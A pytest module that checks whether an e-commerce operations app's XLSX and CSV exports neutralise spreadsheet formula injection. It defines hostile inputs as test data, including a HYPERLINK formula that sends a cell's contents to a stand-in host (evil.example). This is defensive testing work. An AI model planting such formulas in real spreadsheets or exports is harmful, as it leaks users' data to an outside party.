"""Formula injection over every export: each XLSX and CSV the product writes is written with
hostile text and read back. XLSX text cells are text (data type ``s``, never a formula ``f``)
with the text unchanged; CSV text cells that start with ``= + - @``, tab or CR carry a
leading ``'``; real numbers stay numbers."""

import csv
import io
from datetime import date, timedelta
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from shopops.core.spreadsheets import append_row, inert, inert_row
from shopops.orders.tests.conftest import order_payload, post, shelf  # noqa: F401 (fixtures)

pytestmark = pytest.mark.postgres

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"点此查看")'
HOSTILE = [HYPERLINK, "=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"]


def xlsx_cells(content: bytes) -> list:
    """Every non-empty cell of the first sheet, read back by openpyxl."""
    sheet = load_workbook(io.BytesIO(content)).active
    return [c for row in sheet.iter_rows() for c in row if c.value is not None]


def assert_text(cell, text: str) -> None:
    assert cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)
    # XML turns a raw carriage return into a line feed (XML 1.0 §2.11); it stays text.
    assert cell.value == text.replace("\r", "\n"), (cell.coordinate, cell.value)


def find(cells, text: str):
    wanted = text.replace("\r", "\n")
    found = [c for c in cells if c.value == wanted]
    assert found, f"{text!r} is not in the sheet"
    return found


def assert_no_formula(cells) -> None:
    assert not [c.coordinate for c in cells if c.data_type == "f"]


# --- The rule itself ---------------------------------------------------------------


def test_the_rule_quotes_text_only():
    for text in HOSTILE:
        assert inert(text) == "'" + text
    for safe in ("", "abc", "'=1", " =1", "销售额", "1+1", "2024-06-24"):
        assert inert(safe) == safe
    numbers = [-5, Decimal("-1.50"), -0.25, 0, None]
    assert inert_row(numbers) == numbers  # numbers and empties are never touched


def test_xlsx_text_cells_are_text_and_numbers_stay_numbers():
    book = Workbook()
    append_row(book.active, [*HOSTILE, "#N/A", -5, Decimal("-1.50"), -0.25, None])
    out = io.BytesIO()
    book.save(out)
    cells = load_workbook(io.BytesIO(out.getvalue())).active[1]
    for cell, text in zip(cells, [*HOSTILE, "#N/A"], strict=False):
        assert_text(cell, text)
    assert [(c.value, c.data_type) for c in cells[8:11]] == [
        (-5, "n"),
        (-1.5, "n"),
        (-0.25, "n"),
    ]


# --- 核心数据监控日报 XLSX -----------------------------------------------------------


@pytest.mark.django_db
def test_daily_report_xlsx(store_a, tmp_path):
    """The report's rows as the morning build leaves them (the build is tested in
    monitoring), with hostile measures and a hostile note (notes quote plan names)."""
    from shopops.monitoring import daily_report, report_export
    from shopops.monitoring.models import DailyReport, DailyReportRow

    day = date(2024, 6, 24)
    report = DailyReport.objects.create(store=store_a, day=day)
    common = {"report": report, "target": None, "achievement": None, "week_change": None}
    DailyReportRow.objects.bulk_create(
        [
            DailyReportRow(
                **common,
                position=0,
                metric="gmv",
                actual=Decimal("100.00"),
                day_change=Decimal("-0.5"),
                anomaly=True,
                anomaly_reason="statistical",
                note_zh="@SUM(A1) 计划的付费流量下降",
                note_en="@SUM(A1) paid traffic fell",
            ),
            DailyReportRow(**common, position=1, metric="orders", actual=Decimal("1")),
            DailyReportRow(**common, position=2, metric="aov", actual=Decimal("-3.25")),
        ]
    )
    daily_report.write_measure(None, store_a, day, "gmv", HYPERLINK)
    daily_report.write_measure(None, store_a, day, "orders", "=1+1")
    daily_report.write_measure(None, store_a, day, "aov", "-1+2")
    path = report_export.to_xlsx(report, tmp_path / "report.xlsx")

    cells = xlsx_cells(path.read_bytes())
    assert_no_formula(cells)
    for text in (HYPERLINK, "=1+1", "-1+2"):
        for cell in find(cells, text):
            assert_text(cell, text)
    note = next(c for c in cells if c.column == 7 and c.row > 1)
    assert note.data_type == "s" and note.value.startswith("@SUM(A1)")
    # The numbers stay numbers: GMV 100.00 and its fall of 50 % on the day, a negative value.
    sheet = load_workbook(path).active
    gmv, _orders, aov = sheet.iter_rows(min_row=2)
    assert gmv[7].value == HYPERLINK
    assert (gmv[3].value, gmv[3].data_type) == (100, "n")
    assert (gmv[5].value, gmv[5].data_type) == (-0.5, "n")
    assert (aov[3].value, aov[3].data_type) == (-3.25, "n")


# --- 物流时效跟踪表 and 异常物流处理记录 XLSX --------------------------------------------


@pytest.mark.django_db
def test_logistics_xlsx(as_role, shelf, post):  # noqa: F811 (fixtures)
    from shopops.orders import services, tracking

    lead = as_role("ops_lead")
    user = lead.get("/api/v1/me").wsgi_request.user
    assert post(lead, "/api/v1/orders", order_payload("X1")).status_code == 201
    services.review_order(None, the_order("X1"))
    shipped = timezone.now() - timedelta(hours=80)
    services.ship(None, the_order("X1"), carrier=HYPERLINK, tracking_no="-1+2", at=shipped)
    assert tracking.find_delays(shelf["store"]) >= 1
    for case in the_order("X1").shipments.get().delay_cases.all():
        tracking.handle(
            user,
            case,
            contact_note="@SUM(A1)",
            compensation="coupon",
            compensation_amount=Decimal("10"),
            result="+1",
        )

    timeliness = lead.get("/orders/logistics/?format=xlsx")
    assert timeliness.status_code == 200
    cells = xlsx_cells(timeliness.content)
    assert_no_formula(cells)
    (carrier,) = find(cells, HYPERLINK)
    assert_text(carrier, HYPERLINK)
    shipped_count = carrier.parent.cell(carrier.row, 2)
    assert (shipped_count.value, shipped_count.data_type) == (1, "n")

    cases = lead.get("/orders/logistics/exceptions/?format=xlsx")
    assert cases.status_code == 200
    cells = xlsx_cells(cases.content)
    assert_no_formula(cells)
    for text in (HYPERLINK, "-1+2", "@SUM(A1)", "+1"):
        for cell in find(cells, text):
            assert_text(cell, text)
    amounts = [c for c in cells if c.column == 10 and c.row > 1]
    assert amounts and all(c.data_type == "n" for c in amounts)


def the_order(order_id):
    from shopops.orders.models import Order

    return Order.objects.get(order_id=order_id)


# --- Import rejects CSV (--rejects) --------------------------------------------------


def test_rejects_csv(shop_for_rejects, tmp_path):
    from shopops.ingest.pipeline import run_import

    rows = [
        ("R1", "=1+1", "c1"),
        ("R2", "+1 元", "=1+1"),
        ("R3", "-1+2", "@SUM(A1)"),
        ("R4", "@SUM(A1)", "+1"),
        ("R5", "\tx", "-1+2"),
        ("R6", '"\rx"', '"' + HYPERLINK.replace('"', '""') + '"'),
        ("R7", "12.50", "ok"),
    ]
    source = tmp_path / "orders.csv"
    source.write_text(
        "order_id,paid_amount,created_at,paid_at,customer_id\n"
        + "".join(
            f"{oid},{amount},2024-03-01 10:00:00,2024-03-01 10:05:00,{customer}\n"
            for oid, amount, customer in rows
        ),
        newline="",
    )
    rejects = tmp_path / "rejects.csv"
    result = run_import(
        store=shop_for_rejects,
        kind="orders",
        path=source,
        skip_invalid=True,
        rejects_path=rejects,
    )
    assert (result.inserted, result.rejected) == (1, 6)
    with open(rejects, newline="", encoding="utf-8-sig") as f:
        header, *written = list(csv.reader(f))
    assert header == [
        "line",
        "column",
        "reason",
        *["order_id", "paid_amount", "created_at", "paid_at", "customer_id"],
    ]
    by_order = {r[3]: r for r in written}
    for reject in result.rejects:
        row = by_order[reject.row[0]]
        assert row[0] == str(reject.line) and row[0].isdigit()  # line numbers stay numbers
        assert row[3:] == [inert(v) for v in reject.row]
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    assert by_order["R1"][4] == "'=1+1" and by_order["R2"][7] == "'=1+1"
    assert by_order["R3"][4] == "'-1+2" and by_order["R3"][7] == "'@SUM(A1)"
    assert by_order["R5"][4] == "'\tx" and by_order["R6"][4] == "'\rx"
    assert by_order["R6"][7] == "'" + HYPERLINK


@pytest.fixture
def shop_for_rejects(db):
    from shopops.core import services

    return services.create_store(None, code="rej", name="拒收", platform="tmall")


# --- CSV templates -------------------------------------------------------------------


def test_csv_templates(monkeypatch):
    from shopops.ingest import templates_csv
    from shopops.ingest.kinds import KINDS

    for kind in KINDS:
        first = KINDS[kind].column_names[0]
        monkeypatch.setitem(templates_csv.EXAMPLES[kind], first, "=1+1")
        header, example = list(csv.reader(io.StringIO(templates_csv.template(kind))))
        assert header == list(KINDS[kind].column_names)
        assert example[0] == "'=1+1"
        expected = templates_csv.EXAMPLES[kind]
        for name, cell in zip(header[1:], example[1:], strict=True):
            assert cell == expected.get(name, "")  # examples and their numbers are unchanged


# --- shopops metrics --format csv ----------------------------------------------------


def test_metrics_csv(cli, tmp_path):
    assert cli("store", "add", "m", "--name", "M", "--platform", "jd").returncode == 0
    orders = tmp_path / "o.csv"
    orders.write_text(
        "order_id,paid_amount,created_at,paid_at,customer_id,province\n"
        "1,30.00,2024-03-01 10:00,2024-03-01 10:00,a,=1+1\n"
        "2,10.00,2024-03-02 10:00,2024-03-02 10:00,a,=1+1\n"
    )
    assert cli("import", "orders", str(orders), "--store", "m").returncode == 0
    span = ("--store", "m", "--from", "2024-03-02", "--to", "2024-03-02")
    out = cli("metrics", "gmv", *span, "--dim", "province", "--compare", "prev", "--format", "csv")
    assert out.returncode == 0, out.stderr
    header, *rows = list(csv.reader(io.StringIO(out.stdout)))
    row = dict(zip(header, rows[0], strict=True))
    assert row["province"] == "'=1+1"
    assert row["gmv"] == "10.00" and Decimal(row["gmv_prev_change"]) < 0  # numbers as numbers
